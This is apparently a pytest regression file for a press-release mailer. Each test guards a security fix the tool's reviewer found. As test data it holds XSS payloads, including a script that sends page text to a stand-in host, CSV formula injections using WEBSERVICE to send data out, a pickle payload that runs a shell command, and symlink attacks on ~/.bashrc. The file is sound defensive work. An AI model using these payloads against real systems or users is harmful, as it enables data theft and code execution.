"""Review 24k: a hostile reviewer's findings, each a test that failed before its fix."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from office_cli import agency_release, mailer, said

# -- 1. a template sent in with a release put a script into every email and into the preview --------

# What an agency's template (beside its release, ``template: kit``) can add to the HTML: each runs
# in the press officer's browser when `mailer preview --open` (or `mailer show --open`) opens it,
# and goes out to every journalist. Each is written as the template file holds it.
# The third value: whether the template's source shows it as written (then the message names its line).
ACTIVE = [
    ('<script>fetch("https://agency.example/?d=" + document.body.innerText)</script>', "<script>", True),
    ('<img src="https://agency.example/p.gif" onerror="location=\'https://agency.example/\'">', "onerror=", True),
    ('<a href="javascript:alert(1)">Read more</a>', "javascript:", True),
    ('<a href="jav&#x61;script:alert(1)">Read more</a>', "javascript:", False),
    ('<a href=" java\tscript:alert(1)">Read more</a>', "javascript:", False),
    ('<meta http-equiv="refresh" content="0;url=https://agency.example/">', '<meta http-equiv="refresh">', True),
    ('<iframe src="https://agency.example/"></iframe>', "<iframe>", True),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:", True),
    # What Python's HTML parser and a browser read differently: each hid an onerror= from the check.
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "<img> inside <style>", False),
    ('<title><p title="</title><img src=x onerror=alert(1)>"></p></title>', "<p> inside <title>", False),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "<noscript>", True),
    ("<![CDATA[><img src=x onerror=alert(1)>]]>", "<![CDATA[", True),
    # Made by the template itself, so no tag appears in its source as written.
    ('{{ ("<scr" ~ "ipt>alert(1)</scr" ~ "ipt>") | safe }}', "<script>", False),
]


@pytest.mark.parametrize(("extra", "named", "as_written"), ACTIVE)
def test_a_template_cannot_put_a_script_in_the_email_or_the_preview(project: Path, extra: str, named: str, as_written: bool) -> None:
    """A release is data, not code (promise 10), and a template sent in with it is treated so (README,
    "Your own look"). Its HTML went into the email as written: `mailer preview` said "No warnings." and
    wrote pitch.html with the agency's script, which runs in the press officer's browser on --open
    (reading a journalist's fields shown with --contact, sending them to the agency) and goes out to
    every journalist. Scripts, event handlers, javascript: links, frames and redirects are refused,
    naming the template (and its line when the source holds it), before anything is written."""
    release = agency_release(project, extra)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "kit.html.j2" in result.output and named in result.output, result.output
    assert "is not allowed in an email template" in said(result), result.output
    if as_written:
        lines = (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").splitlines()
        line = next(number for number, text in enumerate(lines, 1) if extra in text)
        assert f"kit.html.j2, line {line}:" in result.output, result.output
    assert not (project / "out" / "pitch.html").exists()


def test_a_template_with_a_script_logs_and_sends_nothing(live: Path, standin: object) -> None:
    """A send refuses such a template too, before anything is logged or sent."""
    release = agency_release(live, ACTIVE[0][0])
    (live / "lists" / "beat.csv").write_text("Email,First Name\nana@daily.example,Ana\n", encoding="utf-8")
    result = mailer("send", str(release), "--list", "lists/beat.csv", "--yes", "--no-test-ok")
    assert result.exit_code == 1 and "<script> is not allowed in an email template" in said(result), result.output
    assert not standin.mail_sends  # type: ignore[attr-defined]
    assert "Campaign" not in result.output


def test_the_built_in_template_and_plain_links_are_still_fine(project: Path) -> None:
    """What an email template holds (links, pictures, styles, a mailto) is not active content."""
    release = agency_release(project, '<p><a href="mailto:press@example.org">Write</a> <a href="https://example.org/on">on</a></p>')
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 0, result.output
    assert "mailto:press@example.org" in (project / "out" / "pitch.html").read_text(encoding="utf-8")


# -- 2. the delivery log was readable by every user of the computer --------------------------------


def test_a_new_delivery_log_is_readable_by_its_owner_only(project: Path, tmp_path: Path) -> None:
    """The log holds every journalist's address, name and outlet, each open and click, and a copy of
    every email sent: on a shared computer (a university's, an agency's server) any other account
    could read it, as press-mailer made it -rw-r--r-- in a folder of its own it made drwxr-xr-x
    (~/.local/share/press-mailer, or out/ beside mailer.toml). A log press-mailer makes is now
    -rw------- (its -wal and -shm files follow it), and a folder it makes for one drwx------;
    folders that already exist are left as they are."""
    import stat

    result = mailer("suppressions", "list")  # no mailer.toml: the log in the user data folder
    assert result.exit_code == 0, result.output
    folder = tmp_path / "user-data" / "press-mailer"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "mailer.db").stat().st_mode) == 0o600
    (project / "mailer.toml").write_text('[sender]\npostal_address = "1 Hive Road"\n', encoding="utf-8")
    result = mailer("send", "releases/example.md", "--list", "lists/press.csv", "--dry-run")  # the log beside mailer.toml
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((project / "out").stat().st_mode) == 0o700
    written = [path for path in (project / "out").iterdir() if path.name.startswith("mailer.db")]
    assert written and all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in written), written


# -- 3. a link planted in out/ made a preview (or a dry run) write over another file -------------


def planted(link: Path, victim: Path) -> None:
    """``link`` made a symbolic link to ``victim``, as a colleague sharing the office folder could."""
    link.parent.mkdir(parents=True, exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(victim)


def test_a_preview_replaces_a_link_in_its_folder_and_leaves_the_file_it_points_to(project: Path, tmp_path: Path) -> None:
    """In an office folder colleagues share, anyone could leave out/preview/example.txt as a link to
    the press officer's ~/.bashrc: `mailer preview releases/example.md` wrote the release's text
    over it (the next login runs what a colleague wrote in a release), and the HTML, the picture
    copies and the unsubscribe page likewise. The files mailer names in its own folders are now
    written as files of their own, the link replaced, never followed."""
    home = tmp_path / "ana-home"
    home.mkdir()
    victims = {name: home / name for name in (".bashrc", ".profile", "notes.html")}
    for victim in victims.values():
        victim.write_text("ana's own file\n", encoding="utf-8")
    preview = project / "out" / "preview"
    planted(preview / "example.txt", victims[".bashrc"])
    planted(preview / "example.html", victims[".profile"])
    planted(preview / "unsubscribe-preview.html", victims["notes.html"])
    result = mailer("preview", "releases/example.md")
    assert result.exit_code == 0, result.output
    assert all(victim.read_text(encoding="utf-8") == "ana's own file\n" for victim in victims.values())
    for name in ("example.txt", "example.html", "unsubscribe-preview.html"):
        assert not (preview / name).is_symlink() and (preview / name).stat().st_size > 100, name
    assert "Riverbend" in (preview / "example.txt").read_text(encoding="utf-8")


def test_show_and_forget_leave_the_file_a_link_in_their_folders_points_to(project: Path, tmp_path: Path) -> None:
    """`mailer show` writes out/preview/CAMPAIGN.eml, and `mailer forget` rewrote a dry run's
    skipped.csv without the journalist: through a link left there, each changed the file it
    points to (forget took a journalist's row out of someone's own list). The link is replaced,
    or (forget) left alone."""
    home = tmp_path / "ana-home"
    home.mkdir()
    kept, own_list = home / "keep.txt", home / "contacts.csv"
    kept.write_text("ana's own file\n", encoding="utf-8")
    own_list.write_text("email,reason\namara.okafor@example.com,my source at the Daily\n", encoding="utf-8")
    (project / "mailer.toml").write_text('[sender]\npostal_address = "1 Hive Road"\n', encoding="utf-8")
    result = mailer("send", "releases/example.md", "--list", "lists/press.csv", "--dry-run")
    assert result.exit_code == 0, result.output
    campaign = next(line.split()[1].rstrip(":") for line in result.output.splitlines() if line.startswith("Campaign "))
    planted(project / "out" / "preview" / f"{campaign}.eml", kept)
    result = mailer("show", campaign)
    assert result.exit_code == 0, result.output
    assert kept.read_text(encoding="utf-8") == "ana's own file\n"
    assert not (project / "out" / "preview" / f"{campaign}.eml").is_symlink()
    planted(project / "out" / "outbox" / campaign / "skipped.csv", own_list)
    from mailer.forget import erase_files

    erase_files("amara.okafor@example.com", project / "out" / "outbox")  # what mailer forget does to the outbox
    assert "amara.okafor@example.com" in own_list.read_text(encoding="utf-8")


def test_a_resumed_dry_run_replaces_links_in_its_campaign_folder(tmp_path: Path) -> None:
    """A dry run resumed writes into its campaign's folder again (outbox/CAMPAIGN/): its requests,
    .eml files, unsubscribe page and skipped.csv replace a link left there."""
    from send_fixtures import contact, example_rendered

    from mailer import compose
    from mailer.config import Config
    from mailer.models import ContactList, Message
    from mailer.send.plan import build
    from mailer.transport.base import Request
    from mailer.transport.dryrun import DryRunTransport

    victim = tmp_path / "ana-home" / "keep.txt"
    victim.parent.mkdir()
    victim.write_text("ana's own file\n", encoding="utf-8")
    config = Config()
    release = example_rendered()
    planned = build(release, ContactList((contact("ana@x.org", first_name="Ana"),), (), ())).recipients
    transport = DryRunTransport(
        outbox=tmp_path / "outbox", sendgrid=config.sendgrid, sender=config.sender, unsubscribe_tag=compose.unsubscribe_tag(config)
    )
    folder = transport.open("2026-02-19-bees", created_at=datetime(2026, 2, 19, tzinfo=UTC))
    names = ("request-0001.json", "0001-0001-ana@x.org.eml", "unsubscribe-preview.html", "skipped.csv")
    for name in names:
        planted(folder / name, victim)
    transport.send(Request("2026-02-19-bees", 1, release, tuple(planned)))
    transport.write_skipped("2026-02-19-bees", [Message("k", "=bo@x.org", "", {}, skip_reason="invalid")])
    assert victim.read_text(encoding="utf-8") == "ana's own file\n"
    assert not any((folder / name).is_symlink() for name in names)


# -- 4. a formula after a semicolon ran in the spreadsheet of an office whose Excel splits there ----

# Excel opens a .csv with the list separator of the computer's region: a semicolon in France,
# Germany, Belgium, the Netherlands..., a comma in the English-speaking world. A comma file opened
# there is cut at each semicolon that is not inside quotes (and a semicolon file, in English Excel,
# at each comma), so what follows one became a cell of its own, and one starting with = a formula.
# A bounce reason is the receiving mail server's own words: anyone who runs the mail server of an
# address on the list writes them.
REASON = "550 5.1.1 mailbox unknown;=WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A2);"
NAME = "Ana, =HYPERLINK(A1)"  # in a semicolon list, read by English Excel


def cells_as_excel_reads(path: Path, separator: str) -> list[str]:
    """Every cell of a CSV file as Excel with ``separator`` as the list separator reads it."""
    import csv

    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=separator) for cell in row]


def formulas(cells: list[str]) -> list[str]:
    from mailer.spreadsheet import FORMULA_STARTS, LEADING_SPACES

    return [cell for cell in cells if cell.lstrip(LEADING_SPACES).startswith(FORMULA_STARTS)]


def test_a_bounce_reason_cannot_start_a_formula_after_a_semicolon_in_any_report(tmp_path: Path, standin: Any, db_url: str) -> None:
    """The bounces and recipients reports of a comma office, opened by a colleague in Brussels or
    Paris (Excel cutting at semicolons): the cell after the reason's ';' read
    =WEBSERVICE(...&A2), which fetches a web address built from the sheet's cells, so the
    journalist's address went to whoever wrote the reason. Quotes would not help (that Excel's cell
    starts inside them): a formula sign after a comma or semicolon gets an apostrophe before it,
    as one at a cell's start does, and every Excel reads text."""
    from press_office import event, folder, import_events, keys

    project = folder(tmp_path, standin, db_url)
    sent = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
    assert sent.exit_code == 0, sent.output
    (campaign, address), key = next(iter(keys(standin).items()))
    bounce = event("bounce", address, campaign, key, 1_800_000_000, type="bounce", reason=REASON, status="5.1.1")
    import_events(project / "events.json", [bounce])
    for kind in ("bounces", "recipients"):
        result = mailer("report", campaign, "--kind", kind, "-o", f"{kind}.csv")
        assert result.exit_code == 0, result.output
        for separator in (";", ","):
            assert formulas(cells_as_excel_reads(project / f"{kind}.csv", separator)) == [], (kind, separator)
        assert REASON.replace(";=", ";'=") in cells_as_excel_reads(project / f"{kind}.csv", ","), kind  # the office's own Excel


def test_a_list_cell_cannot_start_a_formula_after_a_list_separator_in_lists_clean(project: Path) -> None:
    """A semicolon list (a Paris media database's) cleaned, then opened by the English-speaking
    colleague, cut at the name's comma: '=HYPERLINK(A1)' ran. The cleaned list and its rejected
    rows write 'Ana,' =HYPERLINK(A1)' (and "'=" after a line break in a cell), and mailer reads the
    cleaned list back as it was."""
    # A line break inside quotes that open mid-cell (as that Excel reads the line) ends the line there.
    notes = '"called twice\n=HYPERLINK(A1);"'
    (project / "lists" / "paris.csv").write_text(
        f"Email;First Name;Outlet;Notes\nana@x.example;{NAME};Le Soir;{notes}\nnot-an-address;{NAME};=1+1, =2+2;{notes}\n",
        encoding="utf-8",
    )
    result = mailer("lists", "clean", "lists/paris.csv", "-o", "clean.csv", "--rejects", "rejects.csv")
    assert result.exit_code == 0, result.output
    for written in ("clean.csv", "rejects.csv"):
        for separator in (";", ","):
            assert formulas(cells_as_excel_reads(project / written, separator)) == [], (written, separator)
    assert "Ana,' =HYPERLINK(A1)" in cells_as_excel_reads(project / "clean.csv", ";")
    again = mailer("lists", "clean", "clean.csv", "-o", "again.csv")
    assert again.exit_code == 0 and (project / "again.csv").read_bytes() == (project / "clean.csv").read_bytes(), again.output


# -- 5. -o through a link another user left ---------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "lchown") or os.geteuid() != 0, reason="making a link another user owns needs root")
def test_an_export_is_not_written_through_a_link_another_user_left(project: Path, tmp_path: Path, db_url: str) -> None:
    """`-o` follows a link on purpose (README, "Press lists": your report.csv -> a shared drive).
    But in a folder colleagues share, reports/latest.csv may be a link a colleague left, pointing
    at the press officer's ~/.bashrc: `mailer suppressions list -o reports/latest.csv` (or a report,
    a cleaned list) wrote the export over it. A link made by another user (not by you, root or the folder's owner) is not followed:
    the command stops and says so; nothing is written."""
    (project / "mailer.toml").write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
    added = mailer("suppressions", "add", "ana@daily.example", "--reason", "asked by phone")
    assert added.exit_code == 0, added.output
    victim = tmp_path / "ana-home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("ana's own file\n", encoding="utf-8")
    shared = project / "reports"
    shared.mkdir()
    os.chown(shared, 1000, 1000)  # the team's folder, a colleague's
    link = shared / "latest.csv"
    victim = victim.rename(victim.with_name("bashrc.csv"))  # -o writes only over a .csv
    link.symlink_to(victim)
    os.lchown(link, 65534, 65534)  # left there by another account
    result = mailer("suppressions", "list", "-o", str(link))
    assert result.exit_code == 1, result.output
    assert "link another user made" in said(result), result.output
    assert victim.read_text(encoding="utf-8") == "ana's own file\n"
    os.lchown(link, 0, 0)  # your own link: followed, as the README says
    result = mailer("suppressions", "list", "-o", str(link))
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and "ana@daily.example" in victim.read_text(encoding="utf-8-sig")


# -- 6. a progress bar read a file's name as Rich markup -------------------------------------------


def test_a_progress_bar_shows_the_file_name_as_typed(tmp_path: Path, standin: Any, db_url: str) -> None:
    """`mailer report ... -o "[draft] bees.csv"` on a terminal drew 'Writing  bees.csv' ("[red]" turned
    the rest red): the bar's text was read as Rich markup, where every other line mailer prints is
    taken literally (cli/output.py). It shows the name as typed."""
    from click.testing import CliRunner
    from press_office import folder

    from mailer.cli import main

    folder(tmp_path, standin, db_url)
    sent = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
    assert sent.exit_code == 0, sent.output
    for name in ("[draft] bees.csv", "[red]bees.csv"):
        result = CliRunner().invoke(main, ["report", "latest", "--kind", "recipients", "-o", name], env={"TTY_COMPATIBLE": "1"})
        assert result.exit_code == 0, result.output
        assert f"Writing {name}" in result.output, result.output


# -- 7. a release at the office's root put mailer.toml or the press list into every email ----------


def release_at_root(project: Path, header: str) -> Path:
    """An agency's pitch.md saved beside mailer.toml (its folder is then the office folder), with ``header`` added."""
    text = (ROOT / "releases" / "example.md").read_text(encoding="utf-8")
    start = text.index("about: |")
    end = text.index("---", start)
    (project / "pitch.md").write_text(text[:start].replace("---\n", f"---\n{header}\n", 1) + text[end:], encoding="utf-8")
    return project / "pitch.md"


@pytest.mark.parametrize(
    ("header", "named"),
    [
        ("about_file: mailer.toml", '"mailer.toml"'),
        ("about_file: lists/press.csv", '"lists/press.csv"'),
        ("attachments:\n  - mailer.toml", "mailer.toml"),
        ("attachments:\n  - out/mailer.db", "out/mailer.db"),
    ],
)
def test_a_release_cannot_mail_out_the_office_settings_or_its_log(project: Path, header: str, named: str) -> None:
    """Every file a release names stays inside the release's folder (promise 10); for a release saved
    beside mailer.toml that folder is the whole office. `about_file: mailer.toml` printed the
    settings (the team's database URL with its password) as the About section of every email, and
    `about_file: lists/press.csv` every journalist's address, with "No warnings."; an attachment could
    be mailer.toml or the delivery log itself. An about file is Markdown or text (.md, .txt); neither
    the settings file nor a delivery log can be attached."""
    (project / "mailer.toml").write_text('[database]\nurl = "postgresql+psycopg://press:s3cret-pass@db.example/press"\n', encoding="utf-8")
    (project / "out").mkdir()
    (project / "out" / "mailer.db").write_bytes(b"SQLite format 3\x00" + b"\x00" * 100)
    release = release_at_root(project, header)
    result = mailer("preview", str(release), "-o", "preview", "--config", str(project / "mailer.toml"))
    assert result.exit_code == 1, result.output
    assert named in result.output and "pitch.md, line 2" in result.output, result.output
    assert not (project / "preview").exists()


def test_an_about_file_in_markdown_and_a_csv_attachment_still_work(project: Path) -> None:
    """A boilerplate kept in kit/about.md, and data for journalists attached as a .csv, are what a release does."""
    (project / "kit").mkdir()
    (project / "kit" / "about.md").write_text("**About us**\n\nWe count bees.\n", encoding="utf-8")
    (project / "kit" / "census.csv").write_text("district,colonies\nNorth,12\n", encoding="utf-8")
    release = release_at_root(project, "about_file: kit/about.md\nattachments:\n  - kit/census.csv")
    result = mailer("preview", str(release), "-o", "preview")
    assert result.exit_code == 0, result.output
    assert "We count bees." in (project / "preview" / "pitch.txt").read_text(encoding="utf-8")


# -- 8. the HTML report's summary showed an event's control characters as they are -----------------


def test_the_report_page_summary_shows_control_characters_as_the_terminal_does(tmp_path: Path, standin: Any, db_url: str) -> None:
    """The report page's tables show a right-to-left override or an escape as the terminal does
    ("\\u202e", review 21), but the Summary's rows by bounce classification (an event's own text)
    were written as they are: "\\u202eevil" read "live" in the director's browser, an escape
    sequence went into the page. They are shown as escapes there too."""
    from press_office import event, folder, import_events, keys

    project = folder(tmp_path, standin, db_url)
    sent = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
    assert sent.exit_code == 0, sent.output
    (campaign, address), key = next(iter(keys(standin).items()))
    classification = "\u202eevil \x1b[2J"
    bounce = event("bounce", address, campaign, key, 1_800_000_000, type="bounce", reason="550", bounce_classification=classification)
    import_events(project / "events.json", [bounce])
    result = mailer("report", campaign, "--format", "html", "-o", "report.html")
    assert result.exit_code == 0, result.output
    page = (project / "report.html").read_text(encoding="utf-8")
    assert "\u202e" not in page and "\x1b" not in page
    assert "\\u202eevil \\x1b[2J" in page


# -- 9. a SendGrid key pasted into the wrong line of mailer.toml was quoted back ---------------------


@pytest.mark.parametrize(
    "line",
    [
        '[sendgrid]\napi_url = "SG.pasted-key-id.pasted-key-secret"',
        '[sendgrid]\ncategory = "SG.pasted-key-id.pasted-key-secret "',
        '[sendgrid]\nbatch_size = "SG.pasted-key-id.pasted-key-secret"',
        '[webhook]\nunsubscribe_mailto = "SG.pasted-key-id.pasted-key-secret"',
    ],
)
def test_a_key_pasted_into_mailer_toml_is_not_repeated_in_the_error(project: Path, line: str) -> None:
    """The key never reaches an error message or a file (promise 5): a press officer who pasted it
    into a wrong line of mailer.toml read it back in the error, '(got "SG.pasted-key-id...")', on
    the terminal and in a script's --json log; as a category it was accepted, sent to SendGrid (which
    keeps categories for good) and written in every dry run's requests. A value shaped like a
    SendGrid key is refused, never shown, as api_key_env refuses one ("it is not shown here")."""
    (project / "mailer.toml").write_text(line + "\n", encoding="utf-8")
    for args in (("campaigns",), ("campaigns", "--json")):
        result = mailer(*args)
        assert result.exit_code == 1, result.output
        assert "pasted-key-secret" not in result.output, result.output
        assert "looks like a SendGrid API key (it is not shown here)" in said(result), result.output


# -- 10. labels.toml beside a template was read through a link to anywhere --------------------------


def test_a_labels_file_linked_from_outside_the_template_folder_is_refused(project: Path, tmp_path: Path) -> None:
    """Every file a template uses stays in its folder (its .html.j2, .txt.j2 and .css are checked,
    links followed), but labels.toml beside it was read wherever a link pointed: an agency's folder
    (its release naming its own template) could bring labels.toml -> a file elsewhere on the press
    officer's computer, whose text went into every email. It is refused like the template's other files."""
    outside = tmp_path / "elsewhere" / "labels.toml"
    outside.parent.mkdir()
    outside.write_text('[en]\nfooter_reason = "TEXT FROM ELSEWHERE"\n', encoding="utf-8")
    release = agency_release(project, "")
    (project / "agency" / "labels.toml").symlink_to(outside)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "labels.toml" in result.output and "outside" in result.output, result.output
    assert not (project / "out" / "pitch.html").exists()


# -- 11. a template sent in with a release ran a command through {{ sender.parse_raw(...) }} --------


@pytest.mark.parametrize(
    "call",
    [
        'sender.parse_raw("cos\\nsystem\\n(S\'touch OWNED\'\\ntR.", proto="pickle", allow_pickle=True)',
        'sender.parse_file("agency/OWNED.pickle", proto="pickle", allow_pickle=True)',
        'sender.model_validate_json("{}")',
    ],
)
def test_a_template_cannot_run_code_through_the_sender_it_is_given(project: Path, call: str) -> None:
    """Templates see the sender ({{ sender.postal_address }}), and it was mailer.toml's pydantic
    model itself: its methods came along, among them pydantic's old parse_raw and parse_file,
    which unpickle what they are given. An agency's template (beside its release, template: kit)
    holding {{ sender.parse_raw("cos\\nsystem\\n(S'...'\\ntR.", proto="pickle", allow_pickle=True) }}
    ran that command on the press officer's computer at `mailer preview` (checked: touch
    OWNED). Templates get the sender's four fields as plain text, and nothing of a settings model
    but its fields."""
    (project / "agency").mkdir(exist_ok=True)
    (project / "agency" / "OWNED.pickle").write_bytes(b"cos\nsystem\n(S'touch OWNED'\ntR.")  # what parse_file unpickled
    release = agency_release(project, "{{ " + call + " }}")
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "kit.html.j2" in result.output, result.output
    assert not (project / "OWNED").exists() and not (project / "out" / "pitch.html").exists()


# -- 4, continued: every separator, each cell, both writers --------------------------------------


@settings(max_examples=400, deadline=None)
@given(st.text(st.sampled_from(list(",;\n\r '=+-@\t\u3000\u00a0＝ab")), max_size=8))
def test_no_cell_mailer_writes_starts_a_formula_after_a_separator(value: str) -> None:
    """Whatever a cell holds, what safe_cell writes has no formula start at its start or after a
    comma, semicolon or line break ("x;\\r=": a carriage return is both a separator and a formula
    start, and got one apostrophe of the two it needs), the column writer of `lists clean` writes the
    same, and mailer reads it back as it was (a cell without apostrophes of its own)."""
    import pyarrow as pa

    from mailer.contacts.writing import _safe
    from mailer.spreadsheet import restore_cell, restore_cells, safe_cell, splits_into_formula

    written = safe_cell(value)
    assert not splits_into_formula(written) and formulas([written]) == [], (value, written)
    assert _safe(pa.array([value], type=pa.large_string())).to_pylist() == [written]
    if "'" not in value:
        assert restore_cell(written) == value
        assert restore_cells(pa.array([written], type=pa.large_string())).to_pylist() == [value]


# -- 3, continued: out/ itself a link another user left ----------------------------------------------


@pytest.mark.skipif(not hasattr(os, "lchown") or os.geteuid() != 0, reason="making a link another user owns needs root")
def test_a_preview_is_not_written_through_a_folder_link_another_user_left(project: Path, tmp_path: Path) -> None:
    """A colleague sharing the office folder left out/preview as a link to the press officer's
    public_html: `mailer preview releases/index.md` wrote index.html there, over her own page. A
    folder of mailer's own that is a link another user made (not you, root or its folder's owner)
    is not written through; the preview stops and says so."""
    site = tmp_path / "ana-home" / "public_html"
    site.mkdir(parents=True)
    (site / "example.html").write_text("ana's own page\n", encoding="utf-8")
    (project / "out").mkdir()
    os.chown(project / "out", 1000, 1000)  # the team's folder, a colleague's
    link = project / "out" / "preview"
    link.symlink_to(site)
    os.lchown(link, 65534, 65534)  # left there by another account
    result = mailer("preview", "releases/example.md")
    assert result.exit_code == 1, result.output
    assert "link another user made" in said(result), result.output
    assert (site / "example.html").read_text(encoding="utf-8") == "ana's own page\n"
    os.lchown(link, 0, 0)  # your own link: written through
    assert mailer("preview", "releases/example.md").exit_code == 0
    assert "Riverbend" in (site / "example.html").read_text(encoding="utf-8")
